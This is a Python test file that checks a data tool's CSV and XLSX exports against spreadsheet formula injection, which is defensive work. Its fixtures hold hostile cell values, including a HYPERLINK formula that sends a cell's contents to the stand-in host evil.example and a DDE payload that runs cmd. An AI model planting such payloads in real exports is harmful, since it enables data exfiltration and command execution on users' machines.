"""Exports cannot carry live formulas (issue #39 item 2): a CSV of hostile cells loaded with `bosun
data load` comes back out of /records.csv with OWASP's leading `'` before a cell that a spreadsheet
would run, and out of /records.xlsx and /table.xlsx with every string a plain string."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from bosun.conversation.session import open_session
from bosun.interfaces.api.app import create_app
from bosun.interfaces.cli.app import app as cli
from bosun.settings import Settings

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
# label: a hostile cell per row; amount: real numbers, negative ones included; note: more payloads
ROWS = [
    (1, HYPERLINK, -5, "plain"),
    (2, "@SUM(1)", 12.5, DDE),
    (3, "+1+2", -0.25, "\ttabbed"),
    (4, "-2+3", 7, "\rcarriage"),
    (5, "http://evil.example/", 3, "-"),
]
# the CSV's text of each hostile cell, as a spreadsheet must receive it (inert)
ESCAPED = {
    HYPERLINK: "'" + HYPERLINK,
    "@SUM(1)": "'@SUM(1)",
    DDE: "'" + DDE,
    "+1+2": "'+1+2",
    "\ttabbed": "'\ttabbed",
    "-2+3": "'-2+3",
    "\rcarriage": "'\rcarriage",
    "-": "'-",
}


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "label", "amount", "note"])
        writer.writerows(ROWS)
    env = {"BOSUN_DATA_DIR": str(folder / "data")}
    runner = CliRunner()
    loaded = runner.invoke(cli, ["data", "load", str(source)], env=env)
    assert loaded.exit_code == 0, loaded.output
    catalog = folder / "catalog.yaml"
    drafted = runner.invoke(
        cli, ["catalog", "init", "--index", "hostile", "--out", str(catalog)], env=env
    )
    assert drafted.exit_code == 0, drafted.output
    session = open_session(Settings(data_dir=folder / "data", catalog=catalog))
    try:
        yield TestClient(create_app(session), raise_server_exceptions=False)
    finally:
        session.close()


EVERY_RECORD = {"query": {"query": {"match_all": {}}, "sort": [{"id": "asc"}]}}
COLUMNS = ["id", "label", "amount", "note"]


def test_the_csv_escapes_every_cell_a_spreadsheet_would_run_and_keeps_numbers(
    client: TestClient,
) -> None:
    response = client.post("/records.csv", json={**EVERY_RECORD, "columns": COLUMNS})
    assert response.status_code == 200
    lines = list(csv.reader(io.StringIO(response.text, newline="")))
    assert lines == [
        COLUMNS,
        *[
            [str(i), ESCAPED.get(label, label), str(amount), ESCAPED.get(note, note)]
            for i, label, amount, note in _as_loaded()
        ],
    ]


def _as_loaded() -> list[tuple[int, str, float, str]]:
    """The rows as the engine gives them back: the amount column is a double."""
    return [(i, label, float(amount), note) for i, label, amount, note in ROWS]


def test_the_csv_header_is_escaped_too(client: TestClient) -> None:
    response = client.post("/records.csv", json={**EVERY_RECORD, "columns": ["id", "=1+1"]})
    assert response.text.splitlines()[0] == "id,'=1+1"


def _cells(book: bytes) -> tuple[str, list[list[tuple[str, str]]]]:
    """The first sheet's XML, and its rows as (type, text) per cell: a shared or inline string's
    text, a number's value."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        names = parts.namelist()
        shared = (
            parts.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in names else ""
        )
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    strings = [_text(s) for s in re.findall(r"<si>(.*?)</si>", shared, re.S)]
    rows = []
    for row in re.findall(r"<row [^>]*>(.*?)</row>", sheet, re.S):
        cells = []
        for kind, body in re.findall(
            r'<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(\w+)")?>(.*?)</c>', row, re.S
        ):
            value = re.search(r"<v>(.*?)</v>", body, re.S)
            if kind == "s":
                cells.append(("string", strings[int(value.group(1))]))  # type: ignore[union-attr]
            elif kind == "inlineStr":
                cells.append(("string", _text(body)))
            else:
                cells.append((kind or "number", value.group(1) if value else ""))
        rows.append(cells)
    return sheet, rows


def _text(xml: str) -> str:
    return html.unescape("".join(re.findall(r"<t[^>]*>(.*?)</t>", xml, re.S))).replace(
        "_x000D_", "\r"
    )


def test_the_xlsx_writes_every_string_as_a_string_never_a_formula_or_a_link(
    client: TestClient,
) -> None:
    pytest.importorskip("xlsxwriter")
    response = client.post("/records.xlsx", json={**EVERY_RECORD, "columns": COLUMNS})
    assert response.status_code == 200
    sheet, rows = _cells(response.content)
    assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
    assert rows == [
        [("string", c) for c in COLUMNS],
        *[
            [("number", str(i)), ("string", label), ("number", f"{amount:g}"), ("string", note)]
            for i, label, amount, note in _as_loaded()
        ],
    ]


def test_an_answer_table_with_hostile_cells_exports_as_strings(client: TestClient) -> None:
    pytest.importorskip("xlsxwriter")
    table = {
        "columns": ["=SUM(A1)", "n"],
        "rows": [[HYPERLINK, -3], [DDE, 2.5], ["@x", None], ["big", 2**60]],
    }
    response = client.post("/table.xlsx", json=table)
    assert response.status_code == 200
    sheet, rows = _cells(response.content)
    assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
    assert rows == [
        [("string", "=SUM(A1)"), ("string", "n")],
        [("string", HYPERLINK), ("number", "-3")],
        [("string", DDE), ("number", "2.5")],
        [("string", "@x")],
        [("string", "big"), ("string", str(2**60))],  # past a double's exact whole numbers
    ]
